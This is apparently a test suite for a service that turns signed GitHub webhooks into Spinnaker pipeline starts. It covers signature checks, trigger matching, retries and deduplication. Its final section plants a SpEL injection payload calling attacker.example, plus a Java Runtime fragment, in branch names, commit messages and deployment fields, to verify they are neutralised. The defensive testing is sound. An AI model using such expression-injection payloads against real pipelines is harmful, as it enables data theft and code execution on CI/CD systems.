import { createHmac } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setupServer } from 'msw/node';
import request from 'supertest';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import express from 'express';
import { pino } from 'pino';
import { errorHandler } from '../src/errors.js';
import { createMetrics } from '../src/metrics.js';
import { webhookRouter } from '../src/routes/webhooks.js';
import { Gate } from '../src/spinnaker/gate.js';
import { openStore, type Store } from '../src/store/index.js';
import { DeliveryWorker } from '../src/triggers/deliveryWorker.js';
import { PipelineCache } from '../src/triggers/pipelineCache.js';
import type { PipelineConfig } from '../src/triggers/matching.js';
import { createGithubSimulator } from '../emulators/github/simulator.js';
import { GateSimulator } from '../emulators/spinnaker/gateSimulator.js';
import { WEBHOOK_SECRET, appFor } from './support/app.js';
import { TestClock } from './support/clock.js';
import { silentLogger } from './support/githubApp.js';
import { localRequestsOnly } from './support/net.js';

interface Example {
  name: string;
  examples: Record<string, unknown>[];
}
const examples = createRequire(import.meta.url)('@octokit/webhooks-examples') as Example[];
const example = (event: string, index: number) => {
  const found = examples.find((e) => e.name === event)?.examples[index];
  if (!found) throw new Error(`no ${event} example ${index} in @octokit/webhooks-examples`);
  return structuredClone(found);
};

// Real recorded payloads: a completed workflow run of octo-org/octo-repo (test.yml, master, success) and a
// deployment of Codertocat/Hello-World to production at master.
const workflowRun = () => example('workflow_run', 1);
const deployment = () => example('deployment', 0);

const trigger = (fields: Record<string, unknown>) => ({ enabled: true, ...fields });
const pipeline = (
  id: string,
  triggers: Record<string, unknown>[],
  extra: Partial<PipelineConfig> = {},
): PipelineConfig => ({
  id,
  name: `Pipeline ${id}`,
  application: 'checkout',
  triggers,
  ...extra,
});

const PIPELINES: PipelineConfig[] = [
  pipeline('on-test', [
    trigger({
      type: 'githubWorkflowRun',
      repository: 'octo-org/octo-repo',
      workflow: 'test.yml',
      branch: 'master|main',
    }),
  ]),
  pipeline('on-test-by-name', [
    trigger({
      type: 'githubWorkflowRun',
      repository: 'OCTO-ORG/octo-repo',
      workflow: 'test',
      runAsUser: 'deployer@example.com',
    }),
  ]),
  pipeline('other-branch', [
    trigger({
      type: 'githubWorkflowRun',
      repository: 'octo-org/octo-repo',
      workflow: 'test.yml',
      branch: 'release/.*',
    }),
  ]),
  pipeline('on-failure', [
    trigger({
      type: 'githubWorkflowRun',
      repository: 'octo-org/octo-repo',
      workflow: 'test.yml',
      conclusion: 'failure',
    }),
  ]),
  pipeline('trigger-disabled', [
    trigger({ type: 'githubWorkflowRun', repository: 'octo-org/octo-repo', workflow: 'test.yml', enabled: false }),
  ]),
  pipeline(
    'pipeline-disabled',
    [trigger({ type: 'githubWorkflowRun', repository: 'octo-org/octo-repo', workflow: 'test.yml' })],
    {
      disabled: true,
    },
  ),
  pipeline('bad-regex', [
    trigger({ type: 'githubWorkflowRun', repository: 'octo-org/octo-repo', workflow: 'test.yml', branch: '(' }),
  ]),
  pipeline('deploy-prod', [
    trigger({ type: 'githubDeployment', repository: 'Codertocat/Hello-World', environment: 'prod.*', ref: 'master' }),
  ]),
  pipeline('deploy-staging', [
    trigger({ type: 'githubDeployment', repository: 'Codertocat/Hello-World', environment: 'staging' }),
  ]),
  pipeline('cron-only', [trigger({ type: 'cron', cronExpression: '0 0 3 * * ?' })]),
];

const github = createGithubSimulator();
const gate = new GateSimulator();
const server = setupServer(...github.handlers, ...gate.handlers);
let dir: string;
let store: Store;
let worker: DeliveryWorker;
let metrics: ReturnType<typeof createMetrics>;
let clock: TestClock;

/** The worker's first retry waits a second, then two, four... up to a minute: tests move `clock` past them. */
const RETRY_BASE_MS = 1_000;
const MAX_RETRY_DELAY_MS = 60_000;

function newWorker(current: Store, options: Partial<ConstructorParameters<typeof DeliveryWorker>[0]> = {}) {
  metrics = createMetrics();
  const client = new Gate({ url: gate.url, logger: silentLogger });
  return new DeliveryWorker({
    store: current,
    gate: client,
    pipelines: new PipelineCache(client, silentLogger, 0),
    logger: silentLogger,
    registry: metrics.registry,
    clock,
    retryBaseMs: RETRY_BASE_MS,
    maxRetryDelayMs: MAX_RETRY_DELAY_MS,
    maxAttempts: 3,
    ...options,
  });
}

beforeAll(() => server.listen(localRequestsOnly));
afterAll(() => server.close());
beforeEach(async () => {
  gate.reset();
  gate.pipelines = structuredClone(PIPELINES);
  dir = mkdtempSync(join(tmpdir(), 'triggers-'));
  store = await openStore({ databaseFile: join(dir, 'store.db'), logger: silentLogger });
  clock = new TestClock();
  worker = newWorker(store);
});
afterEach(async () => {
  await worker.stop();
  await store.close();
});

const sign = (body: string, secret = WEBHOOK_SECRET) =>
  `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`;

function deliver(event: string, payload: unknown, { id = `delivery-${Math.random()}`, secret = WEBHOOK_SECRET } = {}) {
  const body = JSON.stringify(payload);
  return request(appFor(github, store, {}, undefined, { secret: WEBHOOK_SECRET, onDelivery: () => {} }))
    .post('/webhooks/github')
    .set('Content-Type', 'application/json')
    .set('X-GitHub-Event', event)
    .set('X-GitHub-Delivery', id)
    .set('X-Hub-Signature-256', sign(body, secret))
    .send(body);
}

const startedIds = () => gate.starts.map((s) => s.pipelineNameOrId).sort();
const deliveriesStored = async () => (await store.db.selectFrom('deliveries').select('id').execute()).length;

describe('POST /webhooks/github', () => {
  it('answers ping', async () => {
    const res = await deliver('ping', example('ping', 0)).expect(200);

    expect(res.body).toMatchObject({ ok: true, message: 'pong' });
  });

  it('stores a delivery before answering 202', async () => {
    const res = await deliver('workflow_run', workflowRun(), { id: 'd-1' }).expect(202);

    expect(res.body).toEqual({ accepted: true, delivery: 'd-1', duplicate: false });
    expect(await deliveriesStored()).toBe(1);
  });

  it.each([
    ['unsigned', (req: request.Test) => req.unset('X-Hub-Signature-256')],
    ['signed with another secret', (req: request.Test) => req.set('X-Hub-Signature-256', sign('{}', 'wrong'))],
  ])('refuses a delivery %s with 401 and stores nothing', async (_name, tamper) => {
    const res = await tamper(deliver('workflow_run', workflowRun())).expect(401);

    expect(res.body.error.name).toBe('AuthenticationError');
    expect(await deliveriesStored()).toBe(0);
  });

  it('logs each delivery it accepts and each it refuses, with the reason (the request log leaves this route out)', async () => {
    const lines: Array<Record<string, unknown>> = [];
    const logger = pino({ level: 'info' }, { write: (line: string) => lines.push(JSON.parse(line)) });
    const app = express()
      .use('/webhooks', webhookRouter({ secret: WEBHOOK_SECRET, store, logger, onDelivery: () => {} }))
      .use(errorHandler(logger));
    const body = JSON.stringify(workflowRun());
    const post = (signature: string) =>
      request(app)
        .post('/webhooks/github')
        .set('Content-Type', 'application/json')
        .set('X-GitHub-Event', 'workflow_run')
        .set('X-GitHub-Delivery', 'logged-1')
        .set('X-Hub-Signature-256', signature)
        .send(body);

    await post(sign(body)).expect(202);
    await post(sign(body, 'wrong')).expect(401);

    expect(lines.map(({ msg, delivery, status, reason }) => ({ msg, delivery, status, reason }))).toEqual([
      { msg: 'webhook delivery accepted', delivery: 'logged-1', status: undefined, reason: undefined },
      {
        msg: 'webhook delivery refused',
        delivery: 'logged-1',
        status: 401,
        reason: expect.stringMatching(/GITHUB_WEBHOOK_SECRET/),
      },
    ]);
  });

  it('refuses a body that is not JSON with 400', async () => {
    const body = '{"action": "completed",';
    const res = await request(appFor(github, store))
      .post('/webhooks/github')
      .set('Content-Type', 'application/json')
      .set('X-GitHub-Event', 'workflow_run')
      .set('X-GitHub-Delivery', 'bad-json')
      .set('X-Hub-Signature-256', sign(body))
      .send(body)
      .expect(400);

    expect(res.body.error.message).toMatch(/not JSON/);
    expect(await deliveriesStored()).toBe(0);
  });

  it("refuses a body over GitHub's 25 MB cap with 413", async () => {
    const body = JSON.stringify({ filler: 'x'.repeat(25 * 1024 * 1024) });
    const res = await request(appFor(github, store))
      .post('/webhooks/github')
      .set('Content-Type', 'application/json')
      .set('X-GitHub-Event', 'workflow_run')
      .set('X-GitHub-Delivery', 'too-big')
      .set('X-Hub-Signature-256', sign(body))
      .send(body)
      .expect(413);

    expect(res.body.error.message).toMatch(/too large/i);
  });
});

describe('a completed workflow run', () => {
  it('starts exactly the pipelines whose trigger matches, with the event facts in the trigger', async () => {
    await deliver('workflow_run', workflowRun(), { id: 'run-1' }).expect(202);
    await worker.drain();

    // Not: another branch, a failure conclusion, a disabled trigger or pipeline, an invalid regex, other events.
    expect(startedIds()).toEqual(['on-test', 'on-test-by-name']);
    const sent = gate.starts.find((s) => s.pipelineNameOrId === 'on-test');
    expect(sent?.application).toBe('checkout');
    expect(sent?.trigger).toMatchObject({
      type: 'githubWorkflowRun',
      enabled: true,
      repository: 'octo-org/octo-repo',
      workflow: 'test.yml',
      branch: 'master',
      conclusion: 'success',
      sha: '3484a3fb816e0859fd6e1cea078d76385ff50625',
      workflowRunId: 289782451,
      runNumber: 163,
      eventId: 'run-1',
      link: 'https://github.com/octo-org/octo-repo/actions/runs/289782451',
      payload: workflowRun(),
    });
  });

  it('starts a trigger with runAsUser as that user', async () => {
    await deliver('workflow_run', workflowRun()).expect(202);
    await worker.drain();

    const sent = gate.starts.find((s) => s.pipelineNameOrId === 'on-test-by-name');
    expect(sent?.trigger.user).toBe('deployer@example.com');
    expect(sent?.headers['x-spinnaker-user']).toBe('deployer@example.com');
  });

  it('starts a failure pipeline when the run failed, and not the success ones', async () => {
    const failed = workflowRun();
    (failed.workflow_run as Record<string, unknown>).conclusion = 'failure';
    await deliver('workflow_run', failed).expect(202);
    await worker.drain();

    expect(startedIds()).toEqual(['on-failure']);
  });

  it('starts nothing for a requested (not completed) run', async () => {
    await deliver('workflow_run', example('workflow_run', 3)).expect(202);
    await worker.drain();

    expect(gate.starts).toEqual([]);
  });

  it('keeps a completed run whose body lacks the run as failed, naming the field, and never retries it', async () => {
    const { workflow_run: _run, ...payload } = workflowRun();
    await deliver('workflow_run', payload, { id: 'no-run' }).expect(202);
    await worker.drain();
    clock.advance(MAX_RETRY_DELAY_MS);
    await worker.drain();

    expect(gate.starts).toEqual([]);
    const row = await store.db
      .selectFrom('deliveries')
      .selectAll()
      .where('id', '=', 'no-run')
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ status: 'failed', attempts: 1 });
    expect(row.last_error).toMatch(/^The workflow_run delivery is not shaped as GitHub sends it: .*workflow_run/s);
  });

  it('acknowledges a redelivery and does not start anything twice', async () => {
    await deliver('workflow_run', workflowRun(), { id: 'same' }).expect(202);
    await worker.drain();
    const again = await deliver('workflow_run', workflowRun(), { id: 'same' }).expect(202);
    await worker.drain();

    expect(again.body.duplicate).toBe(true);
    expect(startedIds()).toEqual(['on-test', 'on-test-by-name']);
  });
});

describe('a created deployment', () => {
  it('starts the pipelines matching repository, environment and ref', async () => {
    await deliver('deployment', deployment(), { id: 'dep-1' }).expect(202);
    await worker.drain();

    expect(startedIds()).toEqual(['deploy-prod']);
    expect(gate.starts[0]?.trigger).toMatchObject({
      type: 'githubDeployment',
      repository: 'Codertocat/Hello-World',
      environment: 'production',
      ref: 'master',
      sha: 'f95f852bd8fca8fcc58a9a2d6c842781e32a215e',
      deploymentId: 145988746,
      eventId: 'dep-1',
      link: 'https://github.com/Codertocat/Hello-World/deployments',
    });
  });
});

describe('when Gate is away', () => {
  it('starts the pipelines of deliveries acknowledged while Gate was down once it is back, after a restart, each once', async () => {
    gate.down();
    await deliver('workflow_run', workflowRun(), { id: 'while-down-1' }).expect(202);
    await deliver('deployment', deployment(), { id: 'while-down-2' }).expect(202);
    await worker.drain();
    expect(gate.starts).toEqual([]);

    // The backend restarts: a new process opens the same database file.
    await worker.stop();
    await store.close();
    store = await openStore({ databaseFile: join(dir, 'store.db'), logger: silentLogger });
    worker = newWorker(store);
    gate.up();
    await worker.drain();
    expect(gate.starts).toEqual([]); // not yet: the retry is a second away

    clock.advance(RETRY_BASE_MS);
    await worker.drain();

    expect(startedIds()).toEqual(['deploy-prod', 'on-test', 'on-test-by-name']);
  });

  /** Gate starts the delivery's pipeline but its answer is lost; the worker's retry comes after. */
  async function startWithLostAnswer(id: string) {
    gate.failNext('accept-then-fail');
    await deliver('deployment', deployment(), { id }).expect(202);
    await worker.drain();
    clock.advance(MAX_RETRY_DELAY_MS);
    await worker.drain();
  }

  it('does not start a pipeline twice when Gate started it but the answer was lost', async () => {
    await startWithLostAnswer('lost-answer');

    expect(gate.starts).toHaveLength(1);
    const row = await store.db.selectFrom('pipeline_starts').selectAll().executeTakeFirst();
    expect(row).toMatchObject({ status: 'started', execution_id: [...gate.executions.keys()][0] });
  });

  it("looks for the lost answer's execution among those started since, not in the application's whole history", async () => {
    // A busy application: Orca's search reads its executions newest first until it has ten matches, so a search
    // for one event's execution, unbounded, reads all of them (and outlasts the Gate timeout in a real one).
    for (let i = 0; i < 2_000; i++) {
      const { executionId } = gate.addRunningExecution({ application: 'checkout', stageType: 'wait' });
      gate.executions.get(executionId)!.buildTime = Date.now() - 30 * 24 * 3_600_000;
    }
    await startWithLostAnswer('lost-in-history');

    expect(gate.starts).toHaveLength(1);
    const row = await store.db.selectFrom('pipeline_starts').selectAll().executeTakeFirst();
    expect(row).toMatchObject({ status: 'started', execution_id: [...gate.executions.keys()].at(-1) });
    expect(gate.searchedExecutions).toBe(1);
  });

  it('keeps a start that cannot succeed as failed, visible through the API and a metric', async () => {
    // The pipeline was deleted after the backend listed it: Gate answers 404, which no retry can fix.
    gate.failNext('pipeline-deleted', 1, /^POST /);
    await deliver('deployment', deployment(), { id: 'gone' }).expect(202);
    await worker.drain();

    const res = await request(appFor(github, store)).get('/api/pipeline-starts?status=failed').expect(200);
    expect(res.body.items).toEqual([
      expect.objectContaining({
        deliveryId: 'gone',
        pipelineId: 'deploy-prod',
        status: 'failed',
        attempts: 1,
        lastError: expect.stringMatching(/Gate answered 404 .*Pipeline configuration not found/),
      }),
    ]);
    expect(await metrics.registry.getSingleMetricAsString('github_pipeline_starts_failed')).toMatch(
      /github_pipeline_starts_failed 1/,
    );
  });

  it('retries a Gate that answers 503 and gives up after the last attempt', async () => {
    gate.failNext('unavailable', 100, /^POST /);
    await deliver('deployment', deployment(), { id: 'flaky' }).expect(202);
    for (let i = 0; i < 6; i++) {
      await worker.drain();
      clock.advance(MAX_RETRY_DELAY_MS);
    }

    const row = await store.db.selectFrom('pipeline_starts').selectAll().executeTakeFirst();
    expect(row).toMatchObject({
      status: 'failed',
      attempts: 3,
      last_error: expect.stringMatching(/Gate answered 503/),
    });
  });
});

describe('draining stored deliveries', () => {
  it("handles what was due when drain() began and returns, though a failed delivery's retry is due at once", async () => {
    // A loaded machine: time passes between any two readings, so a retry set 1 ms ahead is already due when the
    // worker looks for more work. If drain() kept looking it would never end; this clock makes it fail instead.
    let readings = 0;
    const busy = {
      now() {
        if (++readings > 1_000) throw new Error('drain() read the clock 1000 times: it is not returning');
        return new Date(Date.now() + readings * 5);
      },
    };
    worker = newWorker(store, { clock: busy, retryBaseMs: 1, maxRetryDelayMs: 1, maxAttempts: 100 });
    gate.down();
    await deliver('workflow_run', workflowRun(), { id: 'always-due' }).expect(202);

    await worker.drain();
    expect(gate.requests).toEqual(['GET /pipelineConfigs']);

    // Due again by now: the next wake or tick tries it again, once.
    await worker.drain();
    expect(gate.requests).toEqual(['GET /pipelineConfigs', 'GET /pipelineConfigs']);
  });

  it('answers /health while many deliveries are being retried', async () => {
    gate.down();
    const body = JSON.stringify(workflowRun());
    const backlog = 1_000;
    await Promise.all(
      Array.from({ length: backlog }, (_, i) =>
        store.recordDelivery({ id: `backlog-${i}`, event: 'workflow_run', payload: Buffer.from(body) }),
      ),
    );
    let drained = false;
    const draining = worker.drain().then(() => {
      drained = true;
    });

    const res = await request(appFor(github, store)).get('/health').expect(200);

    expect(res.body).toMatchObject({ status: 'ok' });
    expect(drained).toBe(false);
    await draining;
    const pending = await store.db
      .selectFrom('deliveries')
      .select(({ fn }) => fn.countAll<number>().as('n'))
      .where('status', '=', 'pending')
      .where('last_error', 'is not', null)
      .executeTakeFirstOrThrow();
    expect(Number(pending.n)).toBe(backlog);
  });
});

describe('text GitHub users write', () => {
  const attack = "${#jsonFromUrl('http://attacker.example/steal')}";

  it('reaches Gate with no expression in it, and the pipelines still start with the facts they read', async () => {
    const run = workflowRun();
    const workflow = run.workflow_run as Record<string, unknown>;
    workflow.display_title = `Deploy ${attack}`;
    workflow.head_branch = `feature/${attack}`;
    (workflow.head_commit as Record<string, unknown>).message = `fix: ${attack}`;
    const created = deployment();
    const details = created.deployment as Record<string, unknown>;
    details.description = attack;
    details.payload = { [attack]: attack, nested: [{ note: `#{T(java.lang.Runtime)} ${attack}` }] };
    await deliver('workflow_run', run, { id: 'attack-run' }).expect(202);
    await deliver('deployment', created, { id: 'attack-deployment' }).expect(202);
    await worker.drain();

    expect(startedIds()).toEqual(['deploy-prod', 'on-test-by-name']);
    for (const start of gate.starts) expect(JSON.stringify(start.trigger)).not.toContain('${');
    const byName = gate.starts.find((s) => s.pipelineNameOrId === 'on-test-by-name');
    expect(byName?.trigger).toMatchObject({
      repository: 'octo-org/octo-repo',
      sha: '3484a3fb816e0859fd6e1cea078d76385ff50625',
      workflowRunId: 289782451,
      branch: "feature/$ {#jsonFromUrl('http://attacker.example/steal')}",
      payload: {
        workflow_run: { head_commit: { message: "fix: $ {#jsonFromUrl('http://attacker.example/steal')}" } },
      },
    });
    const prod = gate.starts.find((s) => s.pipelineNameOrId === 'deploy-prod');
    expect(prod?.trigger).toMatchObject({ environment: 'production', deploymentId: 145988746, ref: 'master' });
    expect((prod?.trigger.payload as { deployment: { payload: unknown } }).deployment.payload).toEqual({
      "$ {#jsonFromUrl('http://attacker.example/steal')}": "$ {#jsonFromUrl('http://attacker.example/steal')}",
      nested: [{ note: "#{T(java.lang.Runtime)} $ {#jsonFromUrl('http://attacker.example/steal')}" }],
    });
  });

  it("keeps the pipeline author's own trigger fields as written", async () => {
    gate.pipelines = [
      pipeline('authored', [
        trigger({
          type: 'githubWorkflowRun',
          repository: 'octo-org/octo-repo',
          workflow: 'test.yml',
          notes: '${parameters.region}',
        }),
      ]),
    ];
    await deliver('workflow_run', workflowRun()).expect(202);
    await worker.drain();

    expect(gate.starts[0]?.trigger.notes).toBe('${parameters.region}');
  });

  it('refuses a delivery id that is not an id, since it reaches Orca as trigger.eventId', async () => {
    const res = await deliver('workflow_run', workflowRun(), { id: attack }).expect(400);

    expect(res.body.error.message).toMatch(/X-GitHub-Delivery|x-github-delivery/i);
    expect(await deliveriesStored()).toBe(0);
  });
});
